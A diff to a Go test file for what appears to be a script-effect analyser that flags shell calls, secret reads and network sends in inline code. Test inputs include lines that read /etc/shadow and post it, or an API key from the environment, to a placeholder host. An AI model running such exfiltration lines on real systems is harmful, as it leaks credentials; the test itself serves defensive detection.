@@ -39,7 +39,8 @@ func TestBoundsAreOpaque(t *testing.T) {
 		{"f-strings", "python", strings.Repeat(`f"{`, 300), code.Limits{Depth: 8}},
 		{"sed", "sed", strings.Repeat("p;", 500), code.Limits{Steps: 100}},
 		{"cmd", "cmd", strings.Repeat("a ", 500), code.Limits{Steps: 100}},
-		{"comprehensions", "python", "[[[[x for a in r] for b in r] for c in r] for d in r] if 0 else (r := 'a' * 999)", code.Limits{Steps: 40}},
+		{"comprehensions", "python", "[[[[x for a in r] for b in r] for c in r] for d in r] if 0 else (r := 'a' * 999)",
+			code.Limits{Steps: 40}},
 	} {
 		found := everything(c.lang, c.src, c.lim)
 		opaque := 0
@@ -99,7 +100,8 @@ func TestWhatIsKnownAround(t *testing.T) {
 		{"ruby", "system ARGV.shift", "shell /srv/x"},
 		{"python", "import os,sys; os.system(sys.argv.pop()); os.remove(sys.argv.pop(1))", "shell b c; delete /srv/x"},
 		{"python", "open('/etc/shadow')", "read /etc/shadow from secret"},
-		{"python", "import requests; requests.post('http://e', open('/etc/shadow').read())", "read /etc/shadow from secret; net-out http://e from secret+file"},
+		{"python", "import requests; requests.post('http://e', open('/etc/shadow').read())",
+			"read /etc/shadow from secret; net-out http://e from secret+file"},
 		{"node", "fetch('http://e/' + process.env.API_KEY)", "read environment from secret; net-out http://e/k from secret"},
 	} {
 		if got := strings.Join(lines(c.lang, c.src, lim), "; "); got != c.want {
@@ -122,8 +124,10 @@ func TestScanStops(t *testing.T) {
 
 func TestLanguage(t *testing.T) {
 	for program, want := range map[string]string{
-		"python3.12": "python", "pypy3": "python", "node": "node", "nodejs": "node", "perl5.36": "perl", "gawk": "awk", "gsed": "sed", "luajit": "lua",
-		"pwsh": "powershell", "PowerShell.exe": "powershell", "cmd.exe": "cmd", "php8.2": "php", "jruby": "ruby", "bash": "", "": "", "3": "",
+		"python3.12": "python", "pypy3": "python", "node": "node", "nodejs": "node", "perl5.36": "perl", "gawk": "awk",
+		"gsed": "sed", "luajit": "lua",
+		"pwsh": "powershell", "PowerShell.exe": "powershell", "cmd.exe": "cmd", "php8.2": "php", "jruby": "ruby", "bash": "",
+		"": "", "3": "",
 	} {
 		if got := code.Language(program); got != want {
 			t.Errorf("%q is %q, want %q", program, got, want)
@@ -133,7 +137,8 @@ func TestLanguage(t *testing.T) {
 
 func TestOpIsOpaqueAtZero(t *testing.T) {
 	var f code.Found
-	if f.Op != code.Opaque || code.Op(200).String() != "opaque" || code.Op(200).Kind() != effect.Opaque || code.Delete.Kind() != effect.Delete {
+	if f.Op != code.Opaque || code.Op(200).String() != "opaque" || code.Op(200).Kind() != effect.Opaque ||
+		code.Delete.Kind() != effect.Delete {
 		t.Error("the zero op is not opaque")
 	}
 	kinds := []effect.Kind{}
@@ -149,24 +154,40 @@ func TestOpIsOpaqueAtZero(t *testing.T) {
 func TestHonestCodeIsHarmless(t *testing.T) {
 	for lang, sources := range map[string][]string{
 		"python": {
-			`import json,sys; print(json.load(sys.stdin)['x'])`, `print(__import__('sys').version)`, `import sys; [print(l.split()[0]) for l in sys.stdin]`,
-			`from datetime import datetime as d; print(d.now().isoformat())`, `import yaml; yaml.safe_load(open('a.yml'))`, `import re,sys; print(re.findall(r'"v": "([^"]+)"', sys.stdin.read())[0])`,
-			`import secrets; print(secrets.token_hex(16))`, `import torch; print(torch.cuda.is_available())`, `exec_count = 3; print(f'{exec_count!r:>4}')`, "import ast\nprint(ast.dump(ast.parse('eval(x)')))",
-			`import platform, os; print(platform.system(), os.cpu_count(), os.getcwd(), os.path.exists('/x'))`, `d = dict(a=1); d.update(b=2); print({**d, 'os': 'system'})`,
+			`import json,sys; print(json.load(sys.stdin)['x'])`, `print(__import__('sys').version)`,
+			`import sys; [print(l.split()[0]) for l in sys.stdin]`,
+			`from datetime import datetime as d; print(d.now().isoformat())`, `import yaml; yaml.safe_load(open('a.yml'))`,
+			`import re,sys; print(re.findall(r'"v": "([^"]+)"', sys.stdin.read())[0])`,
+			`import secrets; print(secrets.token_hex(16))`, `import torch; print(torch.cuda.is_available())`,
+			`exec_count = 3; print(f'{exec_count!r:>4}')`, "import ast\nprint(ast.dump(ast.parse('eval(x)')))",
+			`import platform, os; print(platform.system(), os.cpu_count(), os.getcwd(), os.path.exists('/x'))`,
+			`d = dict(a=1); d.update(b=2); print({**d, 'os': 'system'})`,
 		},
 		"node": {
-			`console.log(require('./package.json').version)`, `process.stdin.on('data', d => console.log(JSON.parse(d).x))`, `console.log(Object.keys(require('os')).length, 'exec'.length)`,
-			`const s = "a-b".split('-').map(x => x[0].toUpperCase() + x.slice(1)).join(''); console.log(s)`, `console.log(new Date().toISOString(), Math.max(...[1, 2]))`,
-			`const m = /exec\((.*)\)/.exec("exec(1)"); if (m) { console.log(m[1]) }`, `new Promise(r => setTimeout(r, 10)).then(() => console.log('done'))`, `console.log(process.version, process.env.NODE_ENV, process.argv.length)`,
+			`console.log(require('./package.json').version)`, `process.stdin.on('data', d => console.log(JSON.parse(d).x))`,
+			`console.log(Object.keys(require('os')).length, 'exec'.length)`,
+			`const s = "a-b".split('-').map(x => x[0].toUpperCase() + x.slice(1)).join(''); console.log(s)`,
+			`console.log(new Date().toISOString(), Math.max(...[1, 2]))`,
+			`const m = /exec\((.*)\)/.exec("exec(1)"); if (m) { console.log(m[1]) }`,
+			`new Promise(r => setTimeout(r, 10)).then(() => console.log('done'))`,
+			`console.log(process.version, process.env.NODE_ENV, process.argv.length)`,
 		},
-		"perl": {`s/a/b/`, `print "$1\n" if /version = "(.*)"/`, `$h{$_}++; END { print "$_ $h{$_}\n" for sort keys %h }`, `print ucfirst lc`, `my @x = map { $_ * 2 } grep { $_ > 1 } @F; print "@x"`, `s/(\w+)/\u$1/g; tr/a-z//cd; print length`},
-		"ruby": {`puts $<.map(&:to_i).sum`, `puts gets.upcase`, `ARGF.each { |l| puts l.sub(/a/, "b") }`, `require "json"; puts JSON.pretty_generate(JSON.parse(STDIN.read))`, `p (1..10).select(&:even?).map { _1 ** 2 }`},
-		"php":  {`echo PHP_VERSION;`, `echo json_encode(json_decode(stream_get_contents(STDIN)), JSON_PRETTY_PRINT);`, `foreach ([1, 2] as $x) { echo $x * 2, "\n"; }`, `var_dump(preg_match('/exec\(/', 'exec(1)'));`},
-		"lua":  {`print(_VERSION)`, `for k, v in pairs({a = 1}) do print(k, v) end`, `io.write(("x"):rep(3), "\n")`},
-		"awk":  {`{print $1}`, `NR==1`, `$1 ~ /system/ {c++} END {print c}`, `{a[$1]+=$2} END {for (k in a) printf "%s %d\n", k, a[k]}`, `BEGIN{OFS="\t"} {$1=$1; print}`, `length > 80`},
-		"sed":  {`s/a/b/`, `-n`, `1,5p`, `/^#/d;s/[[:space:]]*$//`, `s|http://[^/]*/||;s/\.git$//`, `$!{h;d};x;G`, `s/.*"version": "\(.*\)".*/\1/p`},
-		"powershell": {`Get-ChildItem -Recurse *.go | Measure-Object -Line`, `(Get-Content a.json | ConvertFrom-Json).version`, `$PSVersionTable`, `[System.Environment]::OSVersion.Version`,
-			`Get-Process | Sort-Object CPU -Descending | Select-Object -First 5 Name, CPU | Format-Table`, `if (Test-Path a) { Write-Output 'yes' } else { 'no' }`},
+		"perl": {`s/a/b/`, `print "$1\n" if /version = "(.*)"/`, `$h{$_}++; END { print "$_ $h{$_}\n" for sort keys %h }`,
+			`print ucfirst lc`, `my @x = map { $_ * 2 } grep { $_ > 1 } @F; print "@x"`,
+			`s/(\w+)/\u$1/g; tr/a-z//cd; print length`},
+		"ruby": {`puts $<.map(&:to_i).sum`, `puts gets.upcase`, `ARGF.each { |l| puts l.sub(/a/, "b") }`,
+			`require "json"; puts JSON.pretty_generate(JSON.parse(STDIN.read))`, `p (1..10).select(&:even?).map { _1 ** 2 }`},
+		"php": {`echo PHP_VERSION;`, `echo json_encode(json_decode(stream_get_contents(STDIN)), JSON_PRETTY_PRINT);`,
+			`foreach ([1, 2] as $x) { echo $x * 2, "\n"; }`, `var_dump(preg_match('/exec\(/', 'exec(1)'));`},
+		"lua": {`print(_VERSION)`, `for k, v in pairs({a = 1}) do print(k, v) end`, `io.write(("x"):rep(3), "\n")`},
+		"awk": {`{print $1}`, `NR==1`, `$1 ~ /system/ {c++} END {print c}`,
+			`{a[$1]+=$2} END {for (k in a) printf "%s %d\n", k, a[k]}`, `BEGIN{OFS="\t"} {$1=$1; print}`, `length > 80`},
+		"sed": {`s/a/b/`, `-n`, `1,5p`, `/^#/d;s/[[:space:]]*$//`, `s|http://[^/]*/||;s/\.git$//`, `$!{h;d};x;G`,
+			`s/.*"version": "\(.*\)".*/\1/p`},
+		"powershell": {`Get-ChildItem -Recurse *.go | Measure-Object -Line`,
+			`(Get-Content a.json | ConvertFrom-Json).version`, `$PSVersionTable`, `[System.Environment]::OSVersion.Version`,
+			`Get-Process | Sort-Object CPU -Descending | Select-Object -First 5 Name, CPU | Format-Table`,
+			`if (Test-Path a) { Write-Output 'yes' } else { 'no' }`},
 	} {
 		for _, src := range sources {
 			for _, f := range everything(lang, src, code.Limits{}) {
@@ -181,7 +202,8 @@ func TestHonestCodeIsHarmless(t *testing.T) {
 // Names may be empty where they are computed.
 func TestEmptyNames(t *testing.T) {
 	for lang, src := range map[string]string{
-		"ruby": `Object.const_get("") "x"`, "php": `$f = ''; $f('x'); $o->{''}('x');`, "perl": `&{""}("x"); ${""}->[0]; $h{""}`, "python": `getattr(__import__(""), "")("x"); globals()[""]("x")`,
+		"ruby": `Object.const_get("") "x"`, "php": `$f = ''; $f('x'); $o->{''}('x');`,
+		"perl": `&{""}("x"); ${""}->[0]; $h{""}`, "python": `getattr(__import__(""), "")("x"); globals()[""]("x")`,
 		"node": `require("")[""]("x"); [][""]("x")`, "lua": `_G[""]("x")`, "powershell": `& "" x; ""."y"(1)`,
 	} {
 		everything(lang, src, code.Limits{})
